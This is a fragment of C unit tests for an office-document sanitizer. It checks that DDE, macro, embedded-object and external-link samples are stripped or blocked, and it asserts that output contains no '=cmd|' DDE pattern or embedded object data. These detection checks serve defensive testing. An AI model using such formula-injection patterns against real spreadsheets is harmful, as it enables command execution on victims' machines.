	ck_assert_msg(tu_sanitize(zip, len, "jp.docx", MG_MODE_CDR, &res) == MG_OK, "%s", res.reason);
	out_rels = tu_zip_get(res.out, res.out_len, "word/_rels/document.xml.rels", NULL);
	ck_assert_ptr_nonnull(strstr(out_rels, "Target=\"/word/media/%E7%94%BB%E5%83%8F%20a.png\""));
	out_types = tu_zip_get(res.out, res.out_len, "[Content_Types].xml", NULL);
	ck_assert_ptr_nonnull(strstr(out_types, "PartName=\"/word/media/%E7%94%BB%E5%83%8F%20a.png\""));
	t = text_of(res.out, res.out_len, "jp.docx");
	ck_assert_str_eq(t, "\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e\n\n");
	free(t);
	free(out_rels);
	free(out_types);
	free(zip);
	mg_result_free(&res);
}
END_TEST

/* Every file of the corpus's office/ folder, whatever its family, lands
 * in its expected verdict; a new file without an expectation fails. */
START_TEST(office_corpus_all_verdicts)
{
	static const struct {
		const char *file;
		mg_status st;
		const char *ext;
	} want[] = {
		{ "autostart-encrypt-standardpassword.xlsm", MG_E_ENCRYPTED, NULL },
		{ "dde-in-csv.csv", MG_OK, "csv" },
		{ "dde-in-excel2003.xml", MG_OK, "txt" },
		{ "dde-test.docm", MG_OK, "docx" },
		{ "dde-test.docx", MG_OK, "docx" },
		{ "dde-test.xlsx", MG_OK, "xlsx" },
		{ "embedded-simple-2007.doc", MG_OK, "txt" },
		{ "embedded-simple-2007.docx", MG_OK, "docx" },
		{ "embedded-simple-2007.odt", MG_OK, "odt" },
		{ "embedded-simple-2007.pptx", MG_OK, "pptx" },
		{ "embedded-simple-2007.xlsx", MG_OK, "xlsx" },
		{ "encrypted.docx", MG_E_ENCRYPTED, NULL },
		{ "excel4_sample_macro.slk", MG_E_TYPE_BLOCKED, NULL },
		{ "excel4_sample_macro.xls", MG_OK, "txt" },
		{ "excel4_sample_macro.xlsb", MG_E_TYPE_BLOCKED, NULL },
		{ "excel4_sample_macro.xlsm", MG_OK, "xlsx" },
		{ "harmless-clean.doc", MG_OK, "txt" },
		{ "harmless-clean.docm", MG_OK, "docx" },
		{ "harmless-clean.docx", MG_OK, "docx" },
		{ "issue_251.rtf", MG_OK, "txt" },
		{ "oleform-PR314.docm", MG_OK, "docx" },
		{ "sample_with_calc_embedded.doc", MG_OK, "txt" },
		{ "sample_with_external_link_to_doc.docx", MG_OK, "docx" },
		{ "sample_with_external_link_to_doc.pptx", MG_OK, "pptx" },
		{ "sample_with_external_link_to_doc.xlsx", MG_OK, "xlsx" },
		{ "sample_with_lnk_file.doc", MG_OK, "txt" },
		{ "sample_with_vba.ppt", MG_OK, "txt" },
	};
	DIR *dir = opendir(CORPUS_DIR "/office");
	struct dirent *de;
	unsigned seen = 0;

	ck_assert_ptr_nonnull(dir);
	ck_assert_ptr_nonnull(mg_filter_odf.run);
	ck_assert_ptr_nonnull(mg_filter_rtf.run);
	ck_assert_ptr_nonnull(mg_filter_text.run);
	ck_assert_ptr_nonnull(mg_filter_xml.run);
	while ((de = readdir(dir))) {
		char rel[512];
		size_t i;
		mg_result res;
		mg_status st;

		if (de->d_name[0] == '.')
			continue;
		for (i = 0; i < sizeof(want) / sizeof(want[0]); i++)
			if (strcmp(want[i].file, de->d_name) == 0)
				break;
		ck_assert_msg(i < sizeof(want) / sizeof(want[0]), "no expectation for office/%s",
		              de->d_name);
		snprintf(rel, sizeof(rel), "office/%s", de->d_name);
		st = tu_sanitize_corpus(rel, MG_MODE_DEFAULT, &res);
		ck_assert_msg(st == want[i].st, "%s: %s (%s)", rel, mg_status_name(st), res.reason);
		if (want[i].ext) {
			ck_assert_str_eq(res.out_ext, want[i].ext);
			ck_assert(!tu_contains(res.out, res.out_len, "\\objdata"));
			ck_assert(!tu_contains(res.out, res.out_len, "\n=cmd|"));
			ck_assert(res.out[0] != '=');
		} else {
			ck_assert_int_eq(res.verdict, MG_VERDICT_BLOCKED);
			ck_assert_ptr_null(res.out);
		}
		mg_result_free(&res);
		seen++;
	}
	closedir(dir);
	ck_assert_uint_eq(seen, sizeof(want) / sizeof(want[0]));
}
END_TEST

Suite *mugai_suite(void)
{
	Suite *s = suite_create("ooxml");
	TCase *tc = tcase_create("ooxml");

	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, filter_is_registered);
	tcase_add_test(tc, docm_with_vba_becomes_docx);
	tcase_add_test(tc, dde_fields_removed_results_kept);
	tcase_add_test(tc, external_relationships_removed);
	tcase_add_test(tc, external_link_reported);
	tcase_add_test(tc, dde_formula_removed_value_kept);
	tcase_add_test(tc, embeddings_removed_text_kept);
	tcase_add_test(tc, excel4_macro_sheet_removed);
	tcase_add_test(tc, clean_docx_keeps_text);
	tcase_add_test(tc, text_mode_per_application);
	tcase_add_test(tc, xlsb_is_blocked);
	tcase_add_test(tc, encrypted_ooxml_is_encrypted);
	tcase_add_test(tc, generated_package_disarmed);
	tcase_add_test(tc, traversal_and_absolute_names_blocked);
	tcase_add_test(tc, duplicate_names_blocked);
	tcase_add_test(tc, doctype_and_entity_bomb_blocked);
	tcase_add_test(tc, zip_bomb_and_member_count_limited);
	tcase_add_test(tc, broken_packages_blocked);
	tcase_add_test(tc, corpus_verdicts);
	tcase_add_test(tc, japanese_part_names);
	tcase_add_test(tc, office_corpus_all_verdicts);
	suite_add_tcase(s, tc);
	return s;
}
